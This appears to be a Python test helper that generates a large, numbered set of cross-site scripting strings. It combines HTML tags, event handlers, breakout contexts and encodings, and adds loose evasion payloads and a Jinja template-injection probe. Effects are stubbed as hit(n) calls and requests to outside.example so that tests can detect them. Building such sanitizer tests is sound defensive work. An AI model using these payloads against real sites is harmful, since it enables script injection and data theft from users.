"""Hostile strings from a small grammar of our own: tags with sources and attributes, written in several ways, set into contexts.

``hit(n)`` and ``outside.example`` are what a test looks for: the one runs, the other is asked for, if anything goes through.
"""

from __future__ import annotations

import itertools
import re
from urllib.parse import quote

TAGS = (
    "script img svg iframe a input video audio body style object embed math details template form link meta base marquee "
    "select textarea button keygen isindex table td frameset noscript xmp plaintext title x-y foreignObject animate set image"
).split()
ATTRIBUTES = [
    "onerror=hit({n})",
    "onload=hit({n})",
    "onfocus=hit({n}) autofocus tabindex=1",
    "ontoggle=hit({n}) open",
    "onmouseover=hit({n})",
    "onanimationstart=hit({n}) style=animation:x",
    "style=background:url(http://outside.example/{n})",
    "href=javascript:hit({n})",
    "formaction=javascript:hit({n})",
    "srcset=http://outside.example/{n}",
]
SOURCES = [
    "src=http://outside.example/{n}",
    "src=x",
    "srcdoc='<script>parent.hit({n})</script>'",
    "data=http://outside.example/{n}",
    "xlink:href=http://outside.example/{n}",
    "http-equiv=refresh content='0;url=http://outside.example/{n}'",
]
CONTEXTS = [
    "{0}",
    '">{0}',
    "'>{0}",
    "`>{0}",
    "--></title></style></script></textarea></pre></select></details></noscript>{0}",
    "]]>{0}",
    "{{{{ {0} }}}}",
    "{{% raw %}}{0}",
    "\u202e{0}\u2066",
    "<!--{0}",
    '\\\\\\";{0}//',
    "</svg></math>{0}",
]
LOOSE = [
    "javascript:hit({n})",
    "JaVaScRiPt:hit({n})",
    "java\tscript:hit({n})",
    "data:text/html,<script>hit({n})</script>",
    "http://outside.example/{n}",
    "//outside.example/{n}",
    "{{ cycler.__init__.__globals__ }}",
    "</style><script>hit({n})</script>",
    "url(http://outside.example/{n})",
    "@import 'http://outside.example/{n}';",
    'http://x.example/"onmouseover=hit({n})//',
    "<![CDATA[<script>hit({n})</script>]]>",
    "\x00<script>hit({n})</script>",
    "<scr\x00ipt>hit({n})</script>",
    "<script\u2028>hit({n})</script>",
]


def encoded(text: str, way: int) -> str:
    """The text as a page might try to smuggle it."""
    if way == 0:
        return text
    if way == 1:
        return "".join(f"&#x{ord(c):x};" if c in "<>\"'" else c for c in text)
    if way == 2:
        return quote(text, safe="")
    if way == 3:
        return text.replace("<", "\uff1c").replace(">", "\uff1e")
    if way == 4:
        parts = re.split(r"((?:parent\.)?hit\(\{n\}\)|\{n\})", text)  # JavaScript tells capitals apart, HTML does not
        return "".join(p if k % 2 else "".join(c.upper() if n % 2 else c for n, c in enumerate(p)) for k, p in enumerate(parts))
    if way == 5:
        return text.replace("<", "&lt;").replace(">", "&gt;")
    return text.replace(" ", "\n/\t")


WAYS = 7


def attacks() -> list[str]:
    """All strings, each with its number in it."""
    made = []
    for n, (tag, attribute, way) in enumerate(itertools.product(TAGS, ATTRIBUTES, range(WAYS))):
        source = SOURCES[n % len(SOURCES)]
        made.append(CONTEXTS[n % len(CONTEXTS)].format(encoded(f"<{tag} {source} {attribute}>hit({{n}})</{tag}>", way)))
    return [text.replace("{n}", str(n)).replace("%7Bn%7D", str(n)) for n, text in enumerate([*made, *LOOSE])]
